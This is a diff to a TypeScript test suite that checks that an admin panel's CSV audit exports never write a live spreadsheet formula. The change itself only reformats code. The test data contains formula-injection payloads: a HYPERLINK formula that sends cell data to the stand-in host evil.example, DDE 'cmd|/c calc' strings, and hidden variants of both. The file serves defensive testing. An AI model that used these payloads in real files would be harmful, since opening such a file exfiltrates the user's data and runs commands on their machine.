@@ -17,7 +17,7 @@ let admin: AdminClient;
 
 const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")', '@SUM(1+1)*cmd|"/c calc"!A0', '+33 6 00 00 00 00', '-2+3', '\tTabulé', '\rRetour'];
 /** Formulas further in: after a comma (a spreadsheet that splits on `,`), after spaces, after a line feed, in fullwidth. */
-const HIDDEN = ['Dupont,=HYPERLINK("https://evil.example")', '  =1+1', '\n=1+1', '＝1+1', 'Martin,@SUM(A1)', 'Zed;=1+1;', 'Lyon, +cmd|\'/C calc\'!A0'];
+const HIDDEN = ['Dupont,=HYPERLINK("https://evil.example")', '  =1+1', '\n=1+1', '＝1+1', 'Martin,@SUM(A1)', 'Zed;=1+1;', "Lyon, +cmd|'/C calc'!A0"];
 /** Every cell of a CSV line is quoted: `"…";"…"`, with `"` doubled inside. */
 const allQuoted = (text: string) => parseCsvRaw(text).every((row) => row.every((cell) => /^"(?:[^"]|"")*"$/s.test(cell)));
 
@@ -51,7 +51,10 @@ describe('finding 6: exports never write a live formula', () => {
     const res = await fetch(`${web.url}/admin/portier/audit.csv?module=Account&action=create`, { headers: { cookie: admin.cookie } });
     const rows = parseCsv((await res.text()).replace(/^\uFEFF/, ''));
     for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
-    const changes = rows.slice(1).map((row) => row[8]).join('\n');
+    const changes = rows
+      .slice(1)
+      .map((row) => row[8])
+      .join('\n');
     expect(changes).toContain('=HYPERLINK'); // inside its cell, after "name : (vide) → "
   });
 
